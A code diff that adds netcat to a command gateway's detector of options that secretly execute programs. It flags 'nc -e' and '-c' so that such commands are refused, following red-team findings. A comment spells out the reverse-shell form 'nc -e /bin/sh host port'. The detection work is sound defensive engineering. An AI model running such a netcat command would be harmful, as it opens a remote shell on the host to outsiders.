@@ -2,6 +2,7 @@
  * Options and arguments of everyday programs that run commands the gateway cannot see (red-team
  * findings, issue 14). Each makes the command `unknown` (refused wherever a deny or approve rule
  * could have matched):
+ * - `nc -e PROG`/`-c CMD` (traditional netcat) runs a program for the connection;
  * - `zip -T -TT CMD` / `--unzip-command CMD` runs CMD through the shell to test the archive;
  * - `man -P/--pager CMD`, `man -H/--html=BROWSER`, `man --preprocessor` run CMD;
  * - `less +CMD`/`-k` and `more +CMD` run less commands (`!cmd` is a shell escape) at start;
@@ -26,6 +27,13 @@ export function hiddenCodeIn(name: string, args: ShellWord[]): string | null {
     (name === "printf" && args.some((a, i) => /^-[A-Za-z]*v$/.test(a.value) && args[i + 1] && names([args[i + 1]!])));
   if (namesCode) return `${name} evaluates the array subscript in a variable name (a[$(…)] runs commands)`;
   switch (name) {
+    case "nc":
+    case "netcat":
+    case "nc.traditional":
+    case "nc.openbsd":
+      // Traditional netcat runs a program per connection (`nc -e /bin/sh host port`: a remote shell).
+      if (args.some((a) => a.dynamic || /^-[A-Za-z]*[ec]/.test(a.value))) return `${name} -e/-c runs a program for the connection`;
+      return null;
     case "zip":
       if (words.some((w) => /^(-TT|--unzip-command)/.test(w) || /^-[A-Za-z]*TT/.test(w))) return "zip -TT runs a command to test the archive";
       return null;
